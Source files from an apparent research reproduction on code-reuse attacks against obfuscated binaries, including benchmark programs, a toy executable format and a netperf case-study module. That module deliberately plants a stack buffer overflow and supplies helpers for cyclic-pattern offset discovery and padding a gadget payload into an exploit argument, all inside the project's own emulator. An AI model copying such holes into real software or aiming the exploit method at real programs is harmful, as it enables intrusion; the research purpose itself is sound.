            warm, warm_ss, jobs=1, cache=cache, image_bytes=image_bytes, config=config
        )
        warm_wall = warm_es.wall_total + warm_ss.wall_total
        result["cache"] = {
            "cold_seconds": cold_wall,
            "warm_seconds": warm_wall,
            "speedup": cold_wall / warm_wall if warm_wall else 0.0,
            "warm_symex_invocations": warm_es.symex_invocations,
            "warm_solver_checks": warm_ss.solver_checks,
            "warm_extract_hit": warm_es.cache_hit,
            "warm_winnow_hit": warm_ss.cache_hit,
            "warm_identical": pool_to_bytes(warm) == serial_pool,
            "hit_rate": cache.stats.hit_rate,
        }
    finally:
        if cache_dir is None:
            shutil.rmtree(root, ignore_errors=True)
    return result


def format_pipeline_bench(result: Dict) -> str:
    lines = [
        f"pipeline perf on {result['benchmark']}/{result['config']} "
        f"(cpu_count={result['cpu_count']})",
        f"serial: extract {result['serial']['extract_seconds']:.2f}s "
        f"({result['serial']['extracted']} gadgets), "
        f"winnow {result['serial']['winnow_seconds']:.2f}s "
        f"({result['serial']['winnowed']} kept)",
        f"{'jobs':>5}{'extract s':>11}{'x':>6}{'winnow s':>10}{'x':>6}{'identical':>11}",
    ]
    for run in result["runs"]:
        identical = run["extract_identical"] and run["winnow_identical"]
        lines.append(
            f"{run['jobs']:>5}{run['extract_seconds']:>11.2f}{run['extract_speedup']:>6.2f}"
            f"{run['winnow_seconds']:>10.2f}{run['winnow_speedup']:>6.2f}"
            f"{'yes' if identical else 'NO':>11}"
        )
    c = result["cache"]
    lines.append(
        f"cache: cold {c['cold_seconds']:.2f}s -> warm {c['warm_seconds']:.3f}s "
        f"({c['speedup']:.0f}x), warm symex={c['warm_symex_invocations']}, "
        f"hit_rate={c['hit_rate']:.2f}"
    )
    return "\n".join(lines)
