"""The netperf case study (Sec. VI-C substitute).

``netperf 2.6.0``'s client crashes on ``-a``: ``break_args`` copies the
option argument into two fixed stack buffers with no length check
(Fig. 7).  This module reproduces the same program shape in MC: a
bandwidth-test client whose argument parser contains the verbatim
``break_args`` bug, plus enough protocol scaffolding to give the binary
realistic bulk.

One documented deviation (see EXPERIMENTS.md): the original bug is a
NUL-terminated string copy, which cannot carry the zero bytes every
64-bit code address contains; real exploits work around this with
leading-arg tricks the paper does not detail.  Our ``break_args``
copies a length-prefixed argument (memcpy-shaped, the same CWE-121
stack overflow), so payload bytes are delivered verbatim and the
end-to-end exploit is honestly executable.

The attacker's input is the ``optarg`` global (stand-in for argv
memory); :func:`netperf_image` compiles the client, and
:func:`run_netperf_with_arg` runs it with attacker-chosen bytes.
"""

from __future__ import annotations

from typing import Optional, Tuple

from ..compiler.link import LinkedProgram
from ..emulator.cpu import Emulator
from ..emulator.syscalls import SyscallEvent
from ..obfuscation.pipeline import NONE, ObfuscationConfig, build_program
from .programs import BenchProgram

NETPERF_SOURCE = """
// netperf-like bandwidth test client with the break_args overflow.
u8 optarg[4096];
u64 optarg_len = 0;
u64 test_duration = 10;
u64 send_size = 1024;
u64 recv_size = 1024;
u64 local_rate = 0;
u64 remote_rate = 0;

// Fig. 7: copy the two comma-separated halves of optarg into fixed
// buffers with no bounds check.  (Length-prefixed copy; see module doc.)
u64 break_args(u8* s, u64 n, u8* a1, u8* a2) {
    u64 comma = n;
    for (u64 i = 0; i < n; i++) {
        if (s[i] == ',') { comma = i; break; }
    }
    u64 j = 0;
    for (u64 i = 0; i < comma; i++) {       // fills a1 ... and beyond
        a1[j] = s[i];
        j++;
    }
    j = 0;
    for (u64 i = comma + 1; i < n; i++) {   // fills a2 ... and beyond
        a2[j] = s[i];
        j++;
    }
    return comma;
}

u64 parse_rate(u8* s) {
    u64 v = 0;
    u64 i = 0;
    while (s[i] >= '0' && s[i] <= '9') {
        v = v * 10 + (s[i] - '0');
        i++;
    }
    return v;
}

u64 checksum_block(u8* block, u64 n) {
    u64 sum = 0;
    for (u64 i = 0; i < n; i++) {
        sum = (sum << 1) ^ block[i] ^ (sum >> 13);
    }
    return sum;
}

u64 simulate_burst(u64 size, u64 rate) {
    u8 packet[64];
    u64 sent = 0;
    for (u64 i = 0; i < size / 64; i++) {
        for (u64 b = 0; b < 64; b++) { packet[b] = (i * 7 + b) % 256; }
        sent += checksum_block(packet, 64) % 1500;
        if (rate != 0 && sent > rate * 100) { break; }
    }
    return sent;
}

u64 handle_option_a() {
    u8 arg2[16];   // stack buffers, as in netperf's break_args callers
    u8 arg1[16];
    break_args(optarg, optarg_len, arg1, arg2);
    local_rate = parse_rate(arg1);
    remote_rate = parse_rate(arg2);
    return 0;
}

u64 run_test() {
    u64 total = 0;
    for (u64 t = 0; t < test_duration; t++) {
        total += simulate_burst(send_size, local_rate);
        total += simulate_burst(recv_size, remote_rate) / 2;
    }
    return total;
}

u64 main() {
    if (optarg_len != 0) { handle_option_a(); }
    u64 throughput = run_test();
    print(local_rate);
    print(remote_rate);
    print(throughput % 1000000007);
    return 0;
}
"""

NETPERF_PROGRAM = BenchProgram(
    name="netperf",
    description="bandwidth-test client with the break_args stack overflow",
    source=NETPERF_SOURCE,
)


def netperf_image(
    config: ObfuscationConfig = NONE, *, seed: int = 0
) -> LinkedProgram:
    """Compile the netperf-like client under an obfuscation config."""
    return build_program(NETPERF_SOURCE, config, seed=seed)


def run_netperf_with_arg(
    linked: LinkedProgram, arg: bytes, *, step_limit: int = 40_000_000
) -> Tuple[Emulator, Optional[SyscallEvent]]:
    """Run the client with attacker-controlled ``-a`` argument bytes.

    Plants ``arg`` into the ``optarg`` global and its length into
    ``optarg_len`` before execution (standing in for the kernel copying
    argv), then runs to completion, crash, or attack syscall.
    """
    emu = Emulator(linked.image, stop_on_attack=True, step_limit=step_limit)
    optarg_addr = linked.image.symbol("optarg")
    len_addr = linked.image.symbol("optarg_len")
    emu.memory.write(optarg_addr, arg[:4096])
    emu.memory.write_u64(len_addr, len(arg))
    event = emu.run_catching_attack()
    return emu, event


def locate_overflow() -> "List[OverflowFinding]":
    """Statically locate the ``break_args`` bug in the client source.

    Runs the abstract-interpretation overflow checker
    (:func:`repro.staticanalysis.check_module_source`) over the
    compiled IR of :data:`NETPERF_SOURCE`.  No function names, buffer
    names, or addresses are special-cased — the checker flags the two
    16-byte stack buffers on its own, which is how an analyst knows
    where to aim :func:`find_overflow_offset`'s cyclic pattern.
    """
    from ..staticanalysis import check_module_source

    return check_module_source(NETPERF_SOURCE)


def find_overflow_offset(linked: LinkedProgram, *, max_len: int = 2400) -> Optional[int]:
    """Classic cyclic-pattern offset discovery.

    Feeds a de Bruijn-ish pattern through the overflow and reads which
    pattern word landed in the saved return address when the victim
    crashed, yielding the padding the exploit needs before its first
    gadget address.  Works on *any* obfuscated build — no layout
    knowledge is assumed, exactly like attacking a stripped binary.
    """
    pattern = bytearray()
    offset_of_counter = {}
    counter = 0
    while len(pattern) < max_len:
        if counter & 0xFF == ord(","):
            counter += 1  # a comma byte would split the argument early
        offset_of_counter[counter] = len(pattern)
        pattern += (0x1000000000000 + counter).to_bytes(8, "little")
        counter += 1
    emu = Emulator(linked.image, stop_on_attack=True, step_limit=40_000_000)
    optarg_addr = linked.image.symbol("optarg")
    len_addr = linked.image.symbol("optarg_len")
    emu.memory.write(optarg_addr, bytes(pattern))
    emu.memory.write_u64(len_addr, len(pattern))
    try:
        while True:
            emu.step()
    except Exception:
        rip = emu.cpu.rip
        if rip >> 24 == 0x1000000000000 >> 24:
            return offset_of_counter.get(rip & 0xFFFFFF)
    return None


def build_exploit_argument(
    linked: LinkedProgram, payload_bytes: bytes, *, offset: Optional[int] = None
) -> Optional[bytes]:
    """Pad a planner payload into a complete ``-a`` argument.

    ``offset`` (from :func:`find_overflow_offset`) positions the
    payload's first gadget address exactly over the saved return
    address; the padding word just below it (the saved frame pointer)
    is pointed at mapped scratch memory so frame-relative junk accesses
    in the chain cannot fault.
    """
    if offset is None:
        offset = find_overflow_offset(linked)
    if offset is None or offset < 8:
        return None
    padding = bytearray(b"A" * offset)
    scratch = linked.image.symbols.get("__scratch", 0x600000)
    padding[offset - 8 : offset] = (scratch + 0x400).to_bytes(8, "little")
    argument = bytes(padding) + payload_bytes
    if len(argument) > 4096:
        return None
    return argument
