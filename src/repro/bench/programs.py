"""The obfuscation benchmark suite (Banescu et al. substitute).

Twelve small-but-real MC programs with the diversity the paper's
benchmark provides: sorting, searching, numeric kernels, bit
manipulation, a stream cipher, string processing, dynamic programming,
recursion, a heap, a state machine, hashing, and multi-word arithmetic.
Every program is self-checking: it prints a checksum, so the harness
can assert that obfuscation preserved behaviour before measuring
anything on the obfuscated binary.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Tuple


@dataclass(frozen=True)
class BenchProgram:
    name: str
    source: str
    description: str


BUBBLE_SORT = BenchProgram(
    name="bubble_sort",
    description="classic exchange sort over a pseudo-random array",
    source="""
u64 a[24];

u64 main() {
    u64 seed = 12345;
    for (u64 i = 0; i < 24; i++) {
        seed = seed * 1103515245 + 12345;
        a[i] = (seed >> 16) % 1000;
    }
    for (u64 i = 0; i < 24; i++) {
        for (u64 j = 0; j + 1 < 24 - i; j++) {
            if (a[j] > a[j + 1]) {
                u64 t = a[j];
                a[j] = a[j + 1];
                a[j + 1] = t;
            }
        }
    }
    u64 check = 0;
    for (u64 i = 0; i < 24; i++) { check = check * 31 + a[i]; }
    print(check % 1000000007);
    return 0;
}
""",
)

BINARY_SEARCH = BenchProgram(
    name="binary_search",
    description="repeated binary search over a sorted table",
    source="""
u64 table[32];

u64 bsearch(u64 key) {
    u64 lo = 0;
    u64 hi = 32;
    while (lo < hi) {
        u64 mid = (lo + hi) / 2;
        if (table[mid] == key) { return mid; }
        if (table[mid] < key) { lo = mid + 1; }
        else { hi = mid; }
    }
    return 999;
}

u64 main() {
    for (u64 i = 0; i < 32; i++) { table[i] = i * 7 + 3; }
    u64 hits = 0;
    u64 misses = 0;
    for (u64 k = 0; k < 240; k++) {
        u64 r = bsearch(k);
        if (r != 999) { hits = hits + r; }
        else { misses++; }
    }
    print(hits);
    print(misses);
    return 0;
}
""",
)

MATRIX_MULTIPLY = BenchProgram(
    name="matrix_multiply",
    description="dense 6x6 integer matrix product",
    source="""
u64 a[36];
u64 b[36];
u64 c[36];

u64 main() {
    for (u64 i = 0; i < 36; i++) {
        a[i] = (i * 17 + 5) % 23;
        b[i] = (i * 13 + 7) % 19;
    }
    for (u64 i = 0; i < 6; i++) {
        for (u64 j = 0; j < 6; j++) {
            u64 s = 0;
            for (u64 k = 0; k < 6; k++) {
                s += a[i * 6 + k] * b[k * 6 + j];
            }
            c[i * 6 + j] = s;
        }
    }
    u64 check = 0;
    for (u64 i = 0; i < 36; i++) { check = check * 131 + c[i]; }
    print(check % 1000000007);
    return 0;
}
""",
)

CRC32 = BenchProgram(
    name="crc32",
    description="bitwise CRC-32 over a message",
    source="""
u8 msg[64];

u64 main() {
    for (u64 i = 0; i < 64; i++) { msg[i] = (i * 41 + 11) % 256; }
    u64 crc = 0xFFFFFFFF;
    for (u64 i = 0; i < 64; i++) {
        crc = crc ^ msg[i];
        for (u64 b = 0; b < 8; b++) {
            if (crc & 1) { crc = (crc >> 1) ^ 0xEDB88320; }
            else { crc = crc >> 1; }
        }
    }
    print(crc ^ 0xFFFFFFFF);
    return 0;
}
""",
)

RC4_LIKE = BenchProgram(
    name="rc4_like",
    description="key-scheduled stream cipher (RC4 structure)",
    source="""
u64 S[64];
u8 key[8];
u8 data[32];

u64 main() {
    for (u64 i = 0; i < 8; i++) { key[i] = i * 3 + 1; }
    for (u64 i = 0; i < 32; i++) { data[i] = i + 65; }
    for (u64 i = 0; i < 64; i++) { S[i] = i; }
    u64 j = 0;
    for (u64 i = 0; i < 64; i++) {
        j = (j + S[i] + key[i % 8]) % 64;
        u64 t = S[i]; S[i] = S[j]; S[j] = t;
    }
    u64 x = 0;
    j = 0;
    u64 check = 0;
    for (u64 k = 0; k < 32; k++) {
        x = (x + 1) % 64;
        j = (j + S[x]) % 64;
        u64 t = S[x]; S[x] = S[j]; S[j] = t;
        u64 ks = S[(S[x] + S[j]) % 64];
        check = check * 257 + (data[k] ^ ks);
    }
    print(check % 1000000007);
    return 0;
}
""",
)

STRING_OPS = BenchProgram(
    name="string_ops",
    description="reverse, compare, palindrome detection",
    source="""
u8 buf[48];

u64 strlen_(u8* s) {
    u64 n = 0;
    while (s[n] != 0) { n++; }
    return n;
}

u64 reverse(u8* s) {
    u64 n = strlen_(s);
    for (u64 i = 0; i < n / 2; i++) {
        u8 t = s[i];
        s[i] = s[n - 1 - i];
        s[n - 1 - i] = t;
    }
    return n;
}

u64 is_palindrome(u8* s) {
    u64 n = strlen_(s);
    for (u64 i = 0; i < n / 2; i++) {
        if (s[i] != s[n - 1 - i]) { return 0; }
    }
    return 1;
}

u64 main() {
    u8* src = "reliefpfeiler";
    u64 i = 0;
    while (src[i] != 0) { buf[i] = src[i]; i++; }
    buf[i] = 0;
    u64 p1 = is_palindrome(buf);
    reverse(buf);
    print_str(buf);
    print_char(10);
    print(p1 * 100 + is_palindrome(buf));
    return 0;
}
""",
)

FIB_DP = BenchProgram(
    name="fibonacci_dp",
    description="iterative DP Fibonacci + modular sums",
    source="""
u64 memo[40];

u64 main() {
    memo[0] = 0;
    memo[1] = 1;
    for (u64 i = 2; i < 40; i++) {
        memo[i] = (memo[i - 1] + memo[i - 2]) % 1000000007;
    }
    u64 s = 0;
    for (u64 i = 0; i < 40; i++) { s = (s + memo[i] * i) % 1000000007; }
    print(s);
    return 0;
}
""",
)

QUICKSORT = BenchProgram(
    name="quicksort",
    description="recursive quicksort with first-element pivot",
    source="""
u64 a[20];

u64 qsort_(u64 lo, u64 hi) {
    if (lo + 1 >= hi) { return 0; }
    u64 pivot = a[lo];
    u64 i = lo + 1;
    u64 store = lo + 1;
    while (i < hi) {
        if (a[i] < pivot) {
            u64 t = a[i]; a[i] = a[store]; a[store] = t;
            store++;
        }
        i++;
    }
    u64 t = a[lo]; a[lo] = a[store - 1]; a[store - 1] = t;
    qsort_(lo, store - 1);
    qsort_(store, hi);
    return 0;
}

u64 main() {
    u64 seed = 777;
    for (u64 i = 0; i < 20; i++) {
        seed = seed * 6364136223846793005 + 1442695040888963407;
        a[i] = (seed >> 33) % 500;
    }
    qsort_(0, 20);
    u64 ok = 1;
    u64 check = 0;
    for (u64 i = 0; i < 20; i++) {
        if (i > 0 && a[i] < a[i - 1]) { ok = 0; }
        check = check * 37 + a[i];
    }
    print(ok);
    print(check % 1000000007);
    return 0;
}
""",
)

PRIORITY_QUEUE = BenchProgram(
    name="priority_queue",
    description="binary min-heap push/pop workload",
    source="""
u64 heap[40];
u64 size = 0;

u64 push(u64 v) {
    heap[size] = v;
    u64 i = size;
    size++;
    while (i > 0) {
        u64 parent = (i - 1) / 2;
        if (heap[parent] <= heap[i]) { break; }
        u64 t = heap[parent]; heap[parent] = heap[i]; heap[i] = t;
        i = parent;
    }
    return 0;
}

u64 pop() {
    u64 top = heap[0];
    size--;
    heap[0] = heap[size];
    u64 i = 0;
    while (1) {
        u64 l = 2 * i + 1;
        u64 r = 2 * i + 2;
        u64 smallest = i;
        if (l < size && heap[l] < heap[smallest]) { smallest = l; }
        if (r < size && heap[r] < heap[smallest]) { smallest = r; }
        if (smallest == i) { break; }
        u64 t = heap[i]; heap[i] = heap[smallest]; heap[smallest] = t;
        i = smallest;
    }
    return top;
}

u64 main() {
    u64 seed = 42;
    for (u64 k = 0; k < 30; k++) {
        seed = seed * 1103515245 + 12345;
        push((seed >> 16) % 997);
    }
    u64 prev = 0;
    u64 ordered = 1;
    u64 check = 0;
    while (size > 0) {
        u64 v = pop();
        if (v < prev) { ordered = 0; }
        prev = v;
        check = check * 41 + v;
    }
    print(ordered);
    print(check % 1000000007);
    return 0;
}
""",
)

STATE_MACHINE = BenchProgram(
    name="state_machine",
    description="token classifier over a byte stream (DFA)",
    source="""
u8 input[48];

u64 main() {
    u8* text = "ab12 cd34ef  56gh 789 ij";
    u64 i = 0;
    while (text[i] != 0) { input[i] = text[i]; i++; }
    input[i] = 0;
    u64 state = 0;      // 0=space 1=alpha 2=digit
    u64 words = 0;
    u64 numbers = 0;
    u64 transitions = 0;
    for (u64 k = 0; input[k] != 0; k++) {
        u8 c = input[k];
        u64 next = 0;
        if (c >= 'a' && c <= 'z') { next = 1; }
        else if (c >= '0' && c <= '9') { next = 2; }
        if (next != state) {
            transitions++;
            if (next == 1) { words++; }
            if (next == 2) { numbers++; }
        }
        state = next;
    }
    print(words);
    print(numbers);
    print(transitions);
    return 0;
}
""",
)

HASH_TABLE = BenchProgram(
    name="hash_table",
    description="open-addressing hash table insert/lookup",
    source="""
u64 keys[64];
u64 vals[64];
u64 used[64];

u64 insert(u64 key, u64 value) {
    u64 h = (key * 2654435761) % 64;
    while (used[h]) {
        if (keys[h] == key) { vals[h] = value; return h; }
        h = (h + 1) % 64;
    }
    used[h] = 1;
    keys[h] = key;
    vals[h] = value;
    return h;
}

u64 lookup(u64 key) {
    u64 h = (key * 2654435761) % 64;
    u64 probes = 0;
    while (used[h] && probes < 64) {
        if (keys[h] == key) { return vals[h]; }
        h = (h + 1) % 64;
        probes++;
    }
    return 0xFFFF;
}

u64 main() {
    for (u64 i = 0; i < 40; i++) { insert(i * i + 3, i * 11); }
    u64 found = 0;
    u64 missing = 0;
    for (u64 i = 0; i < 40; i++) {
        u64 v = lookup(i * i + 3);
        if (v == i * 11) { found++; }
        if (lookup(i * i + 4) == 0xFFFF) { missing++; }
    }
    print(found);
    print(missing);
    return 0;
}
""",
)

BIGINT_ADD = BenchProgram(
    name="bigint_add",
    description="multi-word addition/doubling with carries",
    source="""
u64 x[8];
u64 y[8];
u64 z[8];

u64 add_big() {
    u64 carry = 0;
    for (u64 i = 0; i < 8; i++) {
        u64 s = x[i] + y[i];
        u64 c1 = 0;
        if (s < x[i]) { c1 = 1; }
        u64 s2 = s + carry;
        if (s2 < s) { c1 = 1; }
        z[i] = s2;
        carry = c1;
    }
    return carry;
}

u64 main() {
    for (u64 i = 0; i < 8; i++) {
        x[i] = 0xFFFFFFFFFFFFFFFF - i * 3;
        y[i] = i * 0x123456789 + 7;
    }
    u64 carry = add_big();
    u64 check = carry;
    for (u64 i = 0; i < 8; i++) { check = check ^ (z[i] * (i + 1)); }
    print(check % 1000000007);
    return 0;
}
""",
)

#: The complete suite, keyed by name.
BENCHMARK_SUITE: Dict[str, BenchProgram] = {
    p.name: p
    for p in (
        BUBBLE_SORT,
        BINARY_SEARCH,
        MATRIX_MULTIPLY,
        CRC32,
        RC4_LIKE,
        STRING_OPS,
        FIB_DP,
        QUICKSORT,
        PRIORITY_QUEUE,
        STATE_MACHINE,
        HASH_TABLE,
        BIGINT_ADD,
    )
}

#: A smaller subset for expensive full-pipeline sweeps.
CORE_SUITE: Tuple[str, ...] = (
    "bubble_sort",
    "crc32",
    "string_ops",
    "fibonacci_dp",
    "state_machine",
    "hash_table",
)
