"""SPEC CPU2006 stand-ins (Table VI substitute).

Four larger MC programs modelled on the four SPEC benchmarks the paper
successfully obfuscated, preserving each one's *computational shape*:

* ``401.bzip2``  → run-length + move-to-front + order-0 entropy model
* ``429.mcf``    → min-cost-flow-style relaxation (Bellman–Ford core)
* ``445.gobmk``  → board-position evaluation with pattern scanning
* ``456.hmmer``  → profile-HMM Viterbi dynamic programming

They are 5–20× the size of the small suite, giving Table VI its
"real-ish program" scale while staying tractable under emulation.
"""

from __future__ import annotations

from typing import Dict

from .programs import BenchProgram

SPEC_BZIP2 = BenchProgram(
    name="401.bzip2",
    description="RLE + move-to-front + entropy accumulator compressor",
    source="""
u8 raw[192];
u8 rle[512];
u8 mtf[512];
u64 alphabet[64];
u64 freq[64];

u64 rle_encode(u64 n) {
    u64 out = 0;
    u64 i = 0;
    while (i < n) {
        u8 c = raw[i];
        u64 run = 1;
        while (i + run < n && raw[i + run] == c && run < 255) { run++; }
        rle[out] = c;
        rle[out + 1] = run;
        out += 2;
        i += run;
    }
    return out;
}

u64 mtf_encode(u64 n) {
    for (u64 i = 0; i < 64; i++) { alphabet[i] = i; }
    for (u64 i = 0; i < n; i++) {
        u64 c = rle[i] % 64;
        u64 pos = 0;
        while (alphabet[pos] != c) { pos++; }
        mtf[i] = pos;
        while (pos > 0) {
            alphabet[pos] = alphabet[pos - 1];
            pos--;
        }
        alphabet[0] = c;
    }
    return n;
}

u64 entropy_cost(u64 n) {
    for (u64 i = 0; i < 64; i++) { freq[i] = 1; }
    u64 cost = 0;
    for (u64 i = 0; i < n; i++) {
        u64 sym = mtf[i] % 64;
        u64 f = freq[sym];
        u64 bits = 1;
        u64 total = 64 + i;
        while (f * 2 < total) { bits++; f = f * 2; }
        cost += bits;
        freq[sym] = freq[sym] + 1;
    }
    return cost;
}

u64 main() {
    u64 seed = 2468;
    for (u64 i = 0; i < 192; i++) {
        seed = seed * 1103515245 + 12345;
        u64 r = (seed >> 16) % 100;
        if (r < 60) { raw[i] = 'a' + (r % 4); }
        else { raw[i] = 'a' + (r % 26); }
    }
    u64 rle_len = rle_encode(192);
    u64 mtf_len = mtf_encode(rle_len);
    u64 cost = entropy_cost(mtf_len);
    print(rle_len);
    print(cost);
    u64 check = 0;
    for (u64 i = 0; i < mtf_len; i++) { check = check * 31 + mtf[i]; }
    print(check % 1000000007);
    return 0;
}
""",
)

SPEC_MCF = BenchProgram(
    name="429.mcf",
    description="shortest-path relaxation core of min-cost flow",
    source="""
u64 edge_from[64];
u64 edge_to[64];
u64 edge_cost[64];
u64 dist[16];
u64 pred[16];
u64 flow[64];

u64 build_graph() {
    u64 e = 0;
    for (u64 i = 0; i < 16; i++) {
        u64 j = (i * 7 + 3) % 16;
        if (j != i) {
            edge_from[e] = i;
            edge_to[e] = j;
            edge_cost[e] = (i * 13 + j * 5) % 50 + 1;
            e++;
        }
        u64 k = (i * 11 + 5) % 16;
        if (k != i) {
            edge_from[e] = i;
            edge_to[e] = k;
            edge_cost[e] = (i * 3 + k * 17) % 40 + 1;
            e++;
        }
        if (i + 1 < 16) {
            edge_from[e] = i;
            edge_to[e] = i + 1;
            edge_cost[e] = (i * 19) % 30 + 1;
            e++;
        }
    }
    return e;
}

u64 bellman_ford(u64 edges, u64 source) {
    for (u64 i = 0; i < 16; i++) {
        dist[i] = 0xFFFFFF;
        pred[i] = 99;
    }
    dist[source] = 0;
    for (u64 round = 0; round < 16; round++) {
        u64 changed = 0;
        for (u64 e = 0; e < edges; e++) {
            u64 u = edge_from[e];
            u64 v = edge_to[e];
            if (dist[u] + edge_cost[e] < dist[v]) {
                dist[v] = dist[u] + edge_cost[e];
                pred[v] = u;
                changed = 1;
            }
        }
        if (changed == 0) { break; }
    }
    return dist[15];
}

u64 augment(u64 edges) {
    // Push one unit of "flow" along cheapest predecessors repeatedly.
    u64 total = 0;
    for (u64 trip = 0; trip < 8; trip++) {
        u64 cost = bellman_ford(edges, trip % 4);
        if (cost >= 0xFFFFFF) { continue; }
        total += cost;
        u64 node = 15;
        while (pred[node] != 99 && node != trip % 4) {
            for (u64 e = 0; e < edges; e++) {
                if (edge_from[e] == pred[node] && edge_to[e] == node) {
                    flow[e] = flow[e] + 1;
                    edge_cost[e] = edge_cost[e] + 2;  // congestion
                    break;
                }
            }
            node = pred[node];
        }
    }
    return total;
}

u64 main() {
    u64 edges = build_graph();
    u64 total = augment(edges);
    print(edges);
    print(total);
    u64 check = 0;
    for (u64 e = 0; e < edges; e++) { check = check * 7 + flow[e] * edge_cost[e]; }
    print(check % 1000000007);
    return 0;
}
""",
)

SPEC_GOBMK = BenchProgram(
    name="445.gobmk",
    description="Go-like board evaluation: liberties, patterns, minimax-lite",
    source="""
u64 board[81];
u64 visited[81];

u64 neighbors_of(u64 pos, u64* out) {
    u64 n = 0;
    u64 row = pos / 9;
    u64 col = pos % 9;
    if (row > 0) { out[n] = pos - 9; n++; }
    if (row < 8) { out[n] = pos + 9; n++; }
    if (col > 0) { out[n] = pos - 1; n++; }
    if (col < 8) { out[n] = pos + 1; n++; }
    return n;
}

u64 liberties(u64 pos) {
    u64 color = board[pos];
    if (color == 0) { return 0; }
    for (u64 i = 0; i < 81; i++) { visited[i] = 0; }
    u64 stack[81];
    u64 top = 0;
    stack[top] = pos;
    top++;
    visited[pos] = 1;
    u64 libs = 0;
    u64 nbrs[4];
    while (top > 0) {
        top--;
        u64 p = stack[top];
        u64 n = neighbors_of(p, nbrs);
        for (u64 i = 0; i < n; i++) {
            u64 q = nbrs[i];
            if (visited[q]) { continue; }
            visited[q] = 1;
            if (board[q] == 0) { libs++; }
            else if (board[q] == color) {
                stack[top] = q;
                top++;
            }
        }
    }
    return libs;
}

u64 evaluate(u64 color) {
    u64 score = 0;
    for (u64 p = 0; p < 81; p++) {
        if (board[p] == color) {
            u64 l = liberties(p);
            score += 10 + l * 3;
            // Pattern bonus: corner and edge heuristics.
            u64 row = p / 9;
            u64 col = p % 9;
            if ((row == 0 || row == 8) && (col == 0 || col == 8)) { score += 5; }
        }
    }
    return score;
}

u64 best_move(u64 color) {
    u64 best = 0;
    u64 best_score = 0;
    for (u64 p = 0; p < 81; p++) {
        if (board[p] != 0) { continue; }
        board[p] = color;
        u64 mine = evaluate(color);
        u64 theirs = evaluate(3 - color);
        board[p] = 0;
        u64 s = mine * 2;
        if (theirs < s) { s = s - theirs; } else { s = 0; }
        if (s > best_score) { best_score = s; best = p; }
    }
    return best * 1000 + best_score;
}

u64 main() {
    u64 seed = 99;
    for (u64 i = 0; i < 30; i++) {
        seed = seed * 6364136223846793005 + 1442695040888963407;
        u64 p = (seed >> 33) % 81;
        board[p] = 1 + (i % 2);
    }
    u64 move = best_move(1);
    print(move);
    print(evaluate(1));
    print(evaluate(2));
    return 0;
}
""",
)

SPEC_HMMER = BenchProgram(
    name="456.hmmer",
    description="profile-HMM Viterbi dynamic programming",
    source="""
u64 match_score[80];
u64 insert_score[80];
u64 vm[84];
u64 vi[84];
u64 prev_vm[84];
u64 prev_vi[84];
u8 sequence[40];

u64 max2(u64 a, u64 b) {
    if (a > b) { return a; }
    return b;
}

u64 viterbi(u64 seq_len, u64 model_len) {
    for (u64 j = 0; j <= model_len; j++) {
        prev_vm[j] = 0;
        prev_vi[j] = 0;
    }
    for (u64 i = 1; i <= seq_len; i++) {
        u64 c = sequence[i - 1] % 4;
        vm[0] = 0;
        vi[0] = 0;
        for (u64 j = 1; j <= model_len; j++) {
            u64 emit = match_score[(j - 1) * 4 % 80 + c];
            u64 stay = prev_vm[j - 1] + emit;
            u64 ins = prev_vi[j - 1] + insert_score[(j - 1) % 80];
            vm[j] = max2(stay, ins);
            vi[j] = max2(prev_vi[j], vm[j] / 2);
        }
        for (u64 j = 0; j <= model_len; j++) {
            prev_vm[j] = vm[j];
            prev_vi[j] = vi[j];
        }
    }
    u64 best = 0;
    for (u64 j = 0; j <= model_len; j++) { best = max2(best, prev_vm[j]); }
    return best;
}

u64 main() {
    u64 seed = 314159;
    for (u64 i = 0; i < 80; i++) {
        seed = seed * 1103515245 + 12345;
        match_score[i] = (seed >> 16) % 16;
        insert_score[i] = (seed >> 20) % 4;
    }
    for (u64 i = 0; i < 40; i++) {
        seed = seed * 1103515245 + 12345;
        sequence[i] = (seed >> 16) % 256;
    }
    u64 score = viterbi(40, 20);
    print(score);
    u64 check = 0;
    for (u64 j = 0; j <= 20; j++) { check = check * 63 + prev_vm[j] + prev_vi[j]; }
    print(check % 1000000007);
    return 0;
}
""",
)

SPEC_SUITE: Dict[str, BenchProgram] = {
    p.name: p for p in (SPEC_BZIP2, SPEC_MCF, SPEC_GOBMK, SPEC_HMMER)
}
