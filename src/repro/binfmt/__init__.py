"""The NFLF executable container and conventional memory layout."""

from .image import (
    BinaryFormatError,
    BinaryImage,
    DATA_BASE,
    MAGIC,
    SCRATCH_SIZE,
    Section,
    STACK_SIZE,
    STACK_TOP,
    TEXT_BASE,
    make_image,
)

__all__ = [
    "BinaryFormatError",
    "BinaryImage",
    "DATA_BASE",
    "MAGIC",
    "SCRATCH_SIZE",
    "STACK_SIZE",
    "STACK_TOP",
    "Section",
    "TEXT_BASE",
    "make_image",
]
