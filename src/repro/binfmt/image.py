"""The NFLF ("No Free Lunch Format") executable container.

A minimal ELF stand-in: named sections with load addresses and
permissions, a symbol table, and an entry point.  Images can be
serialized to bytes and parsed back, so the loader exercises a real
parse path rather than passing Python objects around.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field
from typing import Dict, List, Optional

MAGIC = b"NFLF\x01"

#: Conventional load addresses (ASLR is assumed disabled, per the threat model).
TEXT_BASE = 0x400000
DATA_BASE = 0x600000
#: A writable scratch area inside .data reserved for attacker payload data.
SCRATCH_SIZE = 0x1000
STACK_TOP = 0x7FFF0000
STACK_SIZE = 0x30000


class BinaryFormatError(ValueError):
    """Raised when parsing a malformed NFLF image."""


@dataclass(frozen=True)
class Section:
    """A loadable section."""

    name: str
    addr: int
    data: bytes
    writable: bool = False
    executable: bool = False

    @property
    def end(self) -> int:
        return self.addr + len(self.data)

    def contains(self, addr: int) -> bool:
        return self.addr <= addr < self.end


@dataclass
class BinaryImage:
    """A complete executable image."""

    sections: List[Section] = field(default_factory=list)
    symbols: Dict[str, int] = field(default_factory=dict)
    entry: int = TEXT_BASE

    def section(self, name: str) -> Section:
        for sec in self.sections:
            if sec.name == name:
                return sec
        raise KeyError(f"no section named {name!r}")

    @property
    def text(self) -> Section:
        return self.section(".text")

    @property
    def data(self) -> Section:
        return self.section(".data")

    def section_at(self, addr: int) -> Optional[Section]:
        for sec in self.sections:
            if sec.contains(addr):
                return sec
        return None

    def read(self, addr: int, size: int) -> bytes:
        """Read bytes across the image's static sections."""
        sec = self.section_at(addr)
        if sec is None or addr + size > sec.end:
            raise BinaryFormatError(f"read outside image: {addr:#x}+{size}")
        off = addr - sec.addr
